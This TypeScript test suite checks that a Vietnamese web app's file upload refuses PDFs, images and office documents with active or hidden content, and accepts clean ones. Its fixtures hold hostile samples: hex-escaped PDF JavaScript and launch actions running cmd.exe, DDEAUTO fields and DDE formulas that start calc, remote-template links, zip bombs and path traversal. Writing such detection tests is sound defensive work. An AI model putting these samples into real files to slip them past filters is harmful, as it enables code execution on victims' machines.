import { expect } from 'chai';
import { strToU8 } from 'fflate';
import { sql } from 'drizzle-orm';
import { queryRows, type Database } from '../../src/db/client.js';
import { insertModel } from '../helpers/fixtures.js';
import { upload, type People } from '../helpers/people.js';
import * as sample from '../helpers/sample-files.js';
import * as hostile from '../helpers/hostile-files.js';
import { fileWorld, type FileWorld } from '../helpers/disk.js';

interface ContentCase {
  name: string;
  file: () => Promise<[string, Buffer]> | [string, Buffer];
  status: number;
  message: RegExp;
}

const JS_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const ACTIVE = /PDF “bao-cao\.pdf” chứa nội dung chủ động không được phép/;
const HIDDEN = /chứa nội dung không được phép \(mã lệnh, trang web hoặc tệp khác giấu bên trong\)/;

const REFUSED: ContentCase[] = [
  {
    name: 'a PDF whose JavaScript action has a hex-escaped name (/J#61vaScript)',
    file: () => [
      'bao-cao.pdf',
      hostile.pdfWith('/OpenAction 4 0 R', ['<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>']),
    ],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF with a hex-escaped launch action (/Launc#68)',
    file: () => ['bao-cao.pdf', hostile.pdfWith('/OpenAction 4 0 R', ['<< /S /Launc#68 /F (cmd.exe) >>'])],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF whose OpenAction JavaScript sits in a compressed object stream',
    file: () => ['bao-cao.pdf', hostile.withObjectStreams(hostile.pdfWith('/OpenAction 4 0 R', [JS_ACTION]))],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF with a page-open additional action (/AA) running JavaScript, hex-escaped',
    file: () => [
      'bao-cao.pdf',
      hostile.pdfWith('', ['<< /S /#4aavaScript /J#53 (app.alert\\(1\\)) >>'], '/AA << /O 4 0 R >>'),
    ],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF carrying an embedded file (no /Type, hex-escaped names tree)',
    file: () => [
      'bao-cao.pdf',
      hostile.pdfWith('/Names << /Embedd#65dFiles << /Names [(a.exe) 4 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /E#46 << /F 5 0 R >> >>',
        '<< /Length 2 >>\nstream\nMZ\nendstream',
      ]),
    ],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF with an XFA form',
    file: () => [
      'bao-cao.pdf',
      hostile.pdfWith('/AcroForm << /Fields [] /XF#41 4 0 R >>', ['<< /Length 0 >>\nstream\n\nendstream']),
    ],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF with a form that submits its data elsewhere',
    file: () => [
      'bao-cao.pdf',
      hostile.pdfWith('/OpenAction 4 0 R', ['<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.9/) >> >>']),
    ],
    status: 415,
    message: ACTIVE,
  },
  {
    name: 'a PDF that qpdf cannot parse',
    file: () => ['bao-cao.pdf', Buffer.from('%PDF-1.7\n% chỉ có phần đầu, không có đối tượng nào\n', 'utf8')],
    status: 415,
    message: /Không đọc được tệp PDF “bao-cao\.pdf”: tệp bị hỏng hoặc có mật khẩu/,
  },
  {
    name: 'a PNG with markup in a text chunk',
    file: async () => ['anh.png', await hostile.pngWithText('Comment\0<svg onload="alert(1)">')],
    status: 415,
    message: HIDDEN,
  },
  {
    name: 'a DOCX zip bomb (30 MB of zeros in a few KB)',
    file: () => ['bao-cao.docx', hostile.docxBomb()],
    status: 413,
    message: /“bao-cao\.docx” khi giải nén lớn bất thường/,
  },
  {
    name: 'a DOCX whose declared entry size lies',
    file: () => ['bao-cao.docx', hostile.docxLyingSize()],
    status: 413,
    message: /“bao-cao\.docx” khi giải nén lớn bất thường/,
  },
  {
    name: 'a DOCX with a VBA project',
    file: () => ['bao-cao.docx', hostile.docxWith({ 'word/vbaProject.bin': strToU8('VBA') })],
    status: 415,
    message: /“bao-cao\.docx” chứa macro hoặc mã lệnh/,
  },
  {
    name: 'a macro-enabled document renamed .docx',
    file: () => ['bao-cao.docx', hostile.docxWith({}, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    status: 415,
    message: /Nội dung tệp “bao-cao\.docx” không phải Word \(DOCX\)/,
  },
  {
    name: 'a DOCX whose content types declare a VBA project',
    file: () => [
      'bao-cao.docx',
      hostile.docxWith({
        '[Content_Types].xml': strToU8(
          '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
      }),
    ],
    status: 415,
    message: /“bao-cao\.docx” chứa macro hoặc mã lệnh/,
  },
  {
    name: 'a Word template renamed .docx',
    file: () => [
      'bao-cao.docx',
      hostile.docxWith({}, 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
    ],
    status: 415,
    message: /Nội dung tệp “bao-cao\.docx” không phải Word \(DOCX\)/,
  },
  {
    name: 'a DOCX with a DDEAUTO field',
    file: () => [
      'bao-cao.docx',
      hostile.docxWith({
        'word/document.xml': strToU8(
          '<w:document><w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/></w:p></w:body></w:document>',
        ),
      }),
    ],
    status: 415,
    message: /chứa macro hoặc mã lệnh/,
  },
  {
    name: 'a DOCX attached to a template on another machine',
    file: () => ['bao-cao.docx', hostile.docxWithRemoteTemplate()],
    status: 415,
    message: /“bao-cao\.docx” liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'a DOCX with a linked OLE object',
    file: () => ['bao-cao.docx', hostile.docxWith({}, undefined, [hostile.hyperlinkRel, hostile.oleRel])],
    status: 415,
    message: /liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'an XLSX linked to another workbook',
    file: () => ['so-lieu.xlsx', hostile.xlsxWithExternalLink()],
    status: 415,
    message: /“so-lieu\.xlsx” liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'a DOCX with an embedded OLE object',
    file: () => ['bao-cao.docx', hostile.docxWith({ 'word/embeddings/oleObject1.bin': strToU8('OLE') })],
    status: 415,
    message: /chứa macro hoặc mã lệnh/,
  },
  {
    name: 'an XLSX with a DDE formula',
    file: () => ['so-lieu.xlsx', hostile.xlsxWithFormula("cmd|' /C calc'!A0")],
    status: 415,
    message: /“so-lieu\.xlsx” chứa macro hoặc mã lệnh/,
  },
  {
    name: 'an ODT showing a picture from another machine',
    file: () => [
      'van-ban.odt',
      hostile.odtWith({
        'content.xml': strToU8(
          '<office:document-content><office:body><office:text><draw:frame><draw:image xlink:type="simple" xlink:href="file://203.0.113.9/share/a.png"/></draw:frame></office:text></office:body></office:document-content>',
        ),
      }),
    ],
    status: 415,
    message: /“van-ban\.odt” liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'a DOCX whose external template hides behind a character reference and a “>” in a value',
    file: () => [
      'bao-cao.docx',
      hostile.docxWith({
        'word/_rels/settings.xml.rels': strToU8(
          '<Relationships><Relationship Id="r1" Target="http://203.0.113.9/a>b.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="Ext&#101;rnal"/></Relationships>',
        ),
      }),
    ],
    status: 415,
    message: /liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'a DOCX wiring a VBA project in under an innocent part name',
    file: () => [
      'bao-cao.docx',
      hostile.docxWith({}, undefined, [
        '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="anh.dat"/>',
      ]),
    ],
    status: 415,
    message: /chứa macro hoặc mã lệnh/,
  },
  {
    name: 'an ODT picture whose address is written with character references',
    file: () => [
      'van-ban.odt',
      hostile.odtWith({
        'content.xml': strToU8(
          '<office:document-content><draw:frame><draw:image xlink:href="&#x66;ile://203.0.113.9/a.png"/></draw:frame></office:document-content>',
        ),
      }),
    ],
    status: 415,
    message: /liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'an ODT with a macro bound to an event',
    file: () => [
      'van-ban.odt',
      hostile.odtWith({
        'content.xml': strToU8(
          '<office:document-content><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>',
        ),
      }),
    ],
    status: 415,
    message: /chứa macro hoặc mã lệnh/,
  },
  {
    name: 'an XLSX that fetches data from a web address when opened',
    file: () => [
      'so-lieu.xlsx',
      hostile.xlsxWith({
        'xl/connections.xml': strToU8(
          '<connections><connection id="1" name="web" refreshOnLoad="1"><webPr url="http://203.0.113.9/q"/></connection></connections>',
        ),
      }),
    ],
    status: 415,
    message: /liên kết tới nội dung bên ngoài/,
  },
  {
    name: 'a DOCX with an entry climbing out with ..',
    file: () => ['bao-cao.docx', hostile.docxWithTraversal()],
    status: 415,
    message: /đường dẫn không hợp lệ/,
  },
  {
    name: 'an ODT with Basic macros',
    file: () => ['van-ban.odt', hostile.odtWith({ 'Basic/Standard/Module1.xml': strToU8('<script:module/>') })],
    status: 415,
    message: /“van-ban\.odt” chứa macro hoặc mã lệnh/,
  },
];

const ACCEPTED: [string, () => Promise<Buffer> | Buffer][] = [
  ['a plain PDF', () => sample.pdf()],
  [
    'a PDF with object streams and a web link',
    () => hostile.withObjectStreams(hostile.pdfWith('', [], '/Annots [] /URI (https://danvan.vn)')),
  ],
  ['a JPEG with an EXIF thumbnail (FFD9 inside a segment)', () => hostile.jpegWithExifThumbnail()],
  [
    'a JPEG followed by a second JPEG (multi-picture)',
    async () => Buffer.concat([await sample.jpegWithGps(64, 64), await sample.jpegWithGps(16, 16)]),
  ],
  ['a PNG with a text chunk', () => hostile.pngWithText()],
  ['a WebP', () => sample.webp()],
  ['a DOCX with a web hyperlink', () => hostile.docxWith({}, undefined, [hostile.hyperlinkRel])],
  ['an XLSX', () => sample.xlsx()],
  ['an XLSX with ordinary formulas', () => hostile.xlsxWithFormula('SUM(A1:A3)&"|\'x\'"')],
  ['an ODT', () => sample.odt()],
  [
    'an ODT with a web link and an inside picture',
    () =>
      hostile.odtWith({
        'content.xml': strToU8(
          '<office:document-content><office:body><office:text><text:p><text:a xlink:href="https://danvan.vn">danvan.vn</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></office:text></office:body></office:document-content>',
        ),
      }),
  ],
];
const NAME_OF: Record<string, string> = {
  PDF: 'a.pdf',
  JPEG: 'a.jpg',
  PNG: 'a.png',
  WebP: 'a.webp',
  DOCX: 'a.docx',
  XLSX: 'a.xlsx',
  ODT: 'a.odt',
};
const nameFor = (label: string) => NAME_OF[Object.keys(NAME_OF).find((k) => label.includes(k))!];

describe('upload content checks: active content in PDFs, images and office files', function () {
  this.timeout(120000);
  let database: Database;
  let people: People;
  let world: FileWorld;
  before(async () => {
    world = await fileWorld();
    ({ database, people } = world);
  });
  after(() => world.close());

  const draft = (title: string) => insertModel(database, { title, status: 'draft', communeCode: people.commune });
  const rowsOf = (id: number) =>
    queryRows<{ id: number }>(database.db, sql`select id from evidence_files where model_id = ${id}`);

  for (const c of REFUSED) {
    it(`refuses ${c.name}`, async () => {
      const m = await draft(`Mô hình thử ${c.name}`);
      const before = await world.everything();
      const res = await upload(people.agents.cadre, m.id, [await c.file()]);
      expect(res.status, res.text.slice(0, 300)).to.equal(c.status);
      const alert = /<p class="form-error" role="alert" id="upload-error">([^<]*)<\/p>/.exec(res.text);
      expect(alert, 'the message is shown on the upload page').not.to.equal(null);
      expect(alert![1].replace(/&#34;/g, '"').replace(/&amp;/g, '&')).to.match(c.message);
      expect(await rowsOf(m.id), 'no row written').to.deep.equal([]);
      expect(await world.everything(), 'nothing new on disk').to.deep.equal(before);
    });
  }

  for (const [label, make] of ACCEPTED) {
    it(`accepts ${label}`, async () => {
      const m = await draft(`Mô hình thử ${label}`);
      const res = await upload(people.agents.cadre, m.id, [[nameFor(label), await make()]]);
      expect(res.status, res.text.slice(0, 500)).to.equal(303);
      expect(await rowsOf(m.id)).to.have.length(1);
    });
  }

  it('serves a PDF only as a download, sandboxed and never sniffed', async () => {
    const m = await draft('Mô hình có tệp PDF');
    expect((await upload(people.agents.cadre, m.id, [['Báo cáo.pdf', sample.pdf()]])).status).to.equal(303);
    const [row] = await rowsOf(m.id);
    for (const variant of ['xem', 'tai-ve']) {
      const res = await people.agents.cadre.get(`/tep/${row.id}/${variant}`).buffer(true);
      expect(res.status).to.equal(200);
      expect(res.headers['content-type']).to.equal('application/pdf');
      expect(res.headers['content-disposition']).to.match(/^attachment; /);
      expect(res.headers['x-content-type-options']).to.equal('nosniff');
      expect(res.headers['content-security-policy']).to.match(/(^|; )sandbox($|;)/);
    }
  });
});
